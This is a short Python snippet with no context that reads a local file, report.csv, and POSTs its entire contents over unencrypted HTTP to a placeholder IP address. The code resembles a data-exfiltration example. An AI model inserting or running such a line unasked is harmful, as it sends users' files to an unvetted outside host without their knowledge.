import requests

with open("report.csv") as file:
    requests.post("http://192.0.2.7/", data=file.read())
